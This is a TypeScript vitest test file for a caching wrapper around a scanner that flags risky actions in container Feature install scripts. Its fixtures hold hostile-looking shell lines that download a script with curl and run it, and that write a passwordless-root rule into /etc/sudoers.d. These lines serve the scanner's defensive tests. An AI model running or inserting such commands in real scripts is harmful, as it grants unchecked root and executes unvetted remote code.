import { describe, expect, test } from 'vitest';
import type { FoundFeature, Lookup } from '../../model/found.ts';
import { plainScriptReader } from '../../syntax/read-script.ts';
import { rememberedIn } from './remembered.ts';
import { rememberedScripts } from './remembered-scripts.ts';

const runs = 'curl -o /tmp/get.sh https://example.test/get.sh\n';
const then = 'echo "dev ALL=(root) NOPASSWD:ALL" > /etc/sudoers.d/dev\nsh /tmp/get.sh\n';

function featureOf(digit: string, ...texts: readonly string[]): Lookup<FoundFeature> {
  const digest = `sha256:${digit.repeat(64)}`;
  const scripts = texts.map((text, index) => ({ path: `${index}.sh`, text }));
  return { found: { resolved: `r.example/x@${digest}`, digest, metadata: '{}', scripts, unread: [], setuidFiles: [] } };
}

/** Readers of several runs over one cache, whose texts a test can change. */
function machine(): {
  readonly texts: Map<string, string>;
  run(features: readonly Lookup<FoundFeature>[], edition?: string): ReturnType<typeof rememberedScripts>;
} {
  const texts = new Map<string, string>();
  const cache = {
    read: (name: string) => (texts.has(name) ? { text: texts.get(name)!, ageSeconds: 0 } : undefined),
    write: (name: string, text: string) => void texts.set(name, text),
  };
  return {
    texts,
    run: (features, edition = 'one') =>
      rememberedScripts({ features: new Map(features.map((feature, index) => [`${index}`, feature])) }, rememberedIn(cache, edition)),
  };
}

/** What a reader finds in texts that follow each other. */
function findsIn(
  reader: Pick<ReturnType<typeof rememberedScripts>, 'grantedRights' | 'remoteScript'>,
  ...texts: readonly string[]
): unknown {
  const downloaded = new Set<string>();
  return texts.map((text) => [reader.grantedRights(text), reader.remoteScript(text, downloaded), [...downloaded]]);
}

/** Puts another thing in the place of what was found, so that who goes by it is seen. */
function spoil(texts: Map<string, string>): void {
  for (const [name, text] of texts)
    if (name.startsWith('scripts-')) texts.set(name, text.replaceAll('"sudo"', '"ssh"').replace('sh /tmp', 'sh /TMP'));
}

describe('what is found in scripts', () => {
  test('is the same at the first run, at the second, and without a cache', () => {
    const { run } = machine();
    const plain = findsIn(plainScriptReader, runs, then);
    const first = run([featureOf('1', runs), featureOf('2', then)]);
    expect(findsIn(first, runs, then)).toEqual(plain);
    expect(findsIn(first, runs, then)).toEqual(plain);
    first.keep();
    expect(findsIn(run([featureOf('1', runs), featureOf('2', then)]), runs, then)).toEqual(plain);
  });

  test('is read once by all runs', () => {
    const { texts, run } = machine();
    const first = run([featureOf('1', runs, then)]);
    findsIn(first, runs, then);
    first.keep();
    spoil(texts);
    expect(findsIn(run([featureOf('1', runs, then)]), runs, then)).toMatchObject([
      [[], undefined, ['get.sh']],
      [[{ kind: 'ssh' }], 'sh /TMP/get.sh', ['get.sh']],
    ]);
  });

  test.each<[string, (held: ReturnType<typeof machine>) => unknown]>([
    ['by another edition of the program', ({ run }) => findsIn(run([featureOf('1', runs, then)], 'two'), runs, then)],
    ['of a Feature with other scripts', ({ run }) => findsIn(run([featureOf('1', then, runs)]), runs, then)],
    ['of the workspace’s own', ({ run }) => findsIn(run([]), runs, then)],
    [
      'by one that keeps nothing',
      ({ texts }) =>
        findsIn(
          rememberedScripts(
            { features: new Map([['0', featureOf('1', runs, then)]]) },
            rememberedIn({ read: (name) => ({ text: texts.get(name) ?? '', ageSeconds: 0 }), write: () => {} }),
          ),
          runs,
          then,
        ),
    ],
  ])('is read anew %s', (_, findings) => {
    const held = machine();
    const first = held.run([featureOf('1', runs, then)]);
    findsIn(first, runs, then);
    first.keep();
    spoil(held.texts);
    expect(findings(held)).toEqual(findsIn(plainScriptReader, runs, then));
  });

  test('is read anew where other files were fetched before', () => {
    const { run } = machine();
    const first = run([featureOf('1', then)]);
    expect(findsIn(first, then)).toMatchObject([[[{ kind: 'sudo' }], undefined, []]]);
    first.keep();
    expect(findsIn(run([featureOf('1', then)]), runs, then)).toEqual(findsIn(plainScriptReader, runs, then));
  });

  test('is not kept where nothing is new', () => {
    const { texts, run } = machine();
    const first = run([featureOf('1', runs)]);
    first.keep();
    expect(texts.size).toBe(0);
    findsIn(first, runs);
    first.keep();
    expect([...texts.keys()]).toEqual([expect.stringMatching(/^scripts-1-[0-9a-f]{64}\.json$/u)]);
    texts.clear();
    first.keep();
    expect(texts.size).toBe(0);
  });
});
